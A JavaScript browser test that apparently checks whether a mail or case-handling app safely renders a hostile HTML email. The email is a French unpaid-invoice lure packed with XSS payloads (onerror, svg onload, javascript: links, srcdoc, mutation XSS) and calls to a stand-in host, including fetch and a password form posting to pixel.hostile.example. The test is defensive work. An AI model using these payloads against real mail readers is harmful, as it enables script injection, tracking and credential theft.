// A letter that means harm, read in the browser: nothing of it runs, nothing leaves the page, and its pictures are asked
// for only once somebody says so.

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { axe, launch, open, photograph } from '../lib/browser.mjs';
import { Client } from '../lib/company.mjs';
import { demo, logins, PASSWORD } from '../lib/demo.mjs';
import { check, same, test, until } from '../lib/runner.mjs';

/** Somebody else's server: whatever asks for something there has left the page. */
const ELSEWHERE = 'https://pixel.hostile.example';
const SUBJECT = 'Facture <img src=x onerror="globalThis.hit=`subject`"> impayée';
const PICTURE = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** Each line is a way in that was used somewhere. */
const BODY = `<!doctype html><html><head><base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">
<link rel="stylesheet" href="${ELSEWHERE}/style.css"><link rel="prefetch" href="${ELSEWHERE}/prefetch"><link rel="preconnect" href="${ELSEWHERE}">
<style>@import url(${ELSEWHERE}/import.css); body { background: url(${ELSEWHERE}/ground.gif) }</style>
<script>globalThis.hit = 'script'; top.hit = 'top'; fetch('${ELSEWHERE}/script')</script></head>
<body background="${ELSEWHERE}/body.gif" onload="top.hit = 'onload'">
<p id="words">Madame, votre facture reste impayée.</p>
<img src="${ELSEWHERE}/pixel.gif" width="1" height="1" alt="">
<img src="x" onerror="top.hit = 'onerror'"><img srcset="${ELSEWHERE}/set.gif 1x" src="data:,">
<svg onload="top.hit = 'svg'"><image href="${ELSEWHERE}/svg.gif"/><script>top.hit = 'svg script'</script></svg>
<form action="${ELSEWHERE}/form" method="post"><input name="password"><button autofocus>Payer</button></form>
<iframe src="${ELSEWHERE}/frame" srcdoc="<script>top.hit = 'srcdoc'</script>"></iframe>
<object data="${ELSEWHERE}/object"></object><embed src="${ELSEWHERE}/embed"><video src="${ELSEWHERE}/video" autoplay poster="${ELSEWHERE}/poster"></video>
<a href="javascript:top.hit = 'link'" ping="${ELSEWHERE}/ping">Payer</a>
<div style="background-image: url(${ELSEWHERE}/style.gif)" onmouseover="top.hit = 'mouse'">Échéance</div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hit='mutation'&gt;">
</body></html>`;

const letter = (to) =>
  [
    'From: "Comptabilité" <compta@hostile.example>',
    `To: <${to}>`,
    `Subject: =?utf-8?B?${Buffer.from(SUBJECT).toString('base64')}?=`,
    `Message-ID: <${Date.now()}@hostile.example>`,
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(BODY).toString('base64').replace(/.{76}/g, '$&\r\n'),
    '',
  ].join('\r\n');

/** What asked for something elsewhere. Answered with a picture, so that nothing stops at the first refusal. */
async function watch(page) {
  const left = [];
  await page.context().route(
    (url) => url.hostname !== '127.0.0.1' && url.protocol !== 'data:',
    async (route) => {
      left.push(route.request().url());
      await route.fulfill({ contentType: 'image/gif', body: PICTURE });
    },
  );
  return left;
}

/** What the letter left behind in any window it could reach. */
const hits = async (page) => Promise.all(page.frames().map((frame) => frame.evaluate(() => globalThis.hit ?? null).catch(() => null)));

/** The frame it is shown in may show and link, and nothing else. */
async function fenced(page, program, frame) {
  same(await frame.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox', 'what the frame may do');
  const source = await frame.getAttribute('src');
  const answer = await page.request.get(program.url + source);
  const policy = answer.headers()['content-security-policy'];
  check(policy.startsWith("default-src 'none'") && policy.includes('sandbox') && !/script-src|allow-scripts|allow-same-origin/.test(policy), `its policy: ${policy}`);
  same(/<(script|form|iframe|object|embed|svg|video|meta http-equiv|link|base href)|\son\w+=|javascript:/i.exec(await answer.text())?.[0], undefined, 'what is left of it');
  return source;
}

test('a letter that means harm is read without harm: nothing runs, nothing leaves, pictures come when asked for', async () => {
  const program = await demo();
  const client = await Client.signIn(program.url, logins.admin, PASSWORD);
  const browser = await launch();
  try {
    const box = (await client.get('/mailboxes')).items.find((it) => it.is_active);
    const sent = Date.now();
    writeFileSync(join(program.folder, 'demo/mail/in', `hostile-${sent}.eml`), letter(box.address));
    const it = await until('its case', async () => (await client.get('/cases?view=all&sort=received&limit=5')).items.find((one) => one.subject.startsWith('Facture <img') && Date.parse(one.opened_at ?? one.created_at) >= sent - 5000), 30_000);

    const page = await open(browser, { state: client.state() });
    const left = await watch(page);
    await page.goto(`${program.url}/inbox/all?sort=received`);
    await page.locator(`[data-id="${it.id}"]`).filter({ hasText: 'onerror' }).waitFor();
    await page.goto(`${program.url}/cases/${it.id}`);
    const words = page.locator('article').filter({ hasText: 'votre facture reste impayée' });
    await words.waitFor();
    // Its words give way to the frame.
    const message = page.locator(`article[data-id="${await words.getAttribute('data-id')}"]`);
    await message.getByRole('button', { name: 'Voir la mise en forme' }).click();
    const frame = message.locator('iframe');
    await frame.waitFor();
    await page.waitForTimeout(1000);
    const source = await fenced(page, program, frame);
    same(await axe(page), [], 'axe, the letter');
    same(left, [], 'what left before anybody asked');

    await message.getByRole('button', { name: 'Afficher les images' }).click();
    await until('the pixel is asked for', () => left.length > 0);
    await page.waitForTimeout(1000);
    same([...new Set(left)], [`${ELSEWHERE}/pixel.gif`], 'what left once pictures were asked for');
    same((await hits(page)).filter((one) => one !== null), [], 'what ran');
    same(page.url(), `${program.url}/cases/${it.id}`, 'where one is');

    // Opened by itself it is fenced just as well.
    left.length = 0;
    await page.goto(program.url + source);
    await page.waitForTimeout(500);
    same([left, (await hits(page)).filter((one) => one !== null), page.url()], [[], [], program.url + source], 'the letter by itself');
  } catch (error) {
    await photograph(browser, 'hostile');
    throw error;
  } finally {
    await browser.close();
  }
});
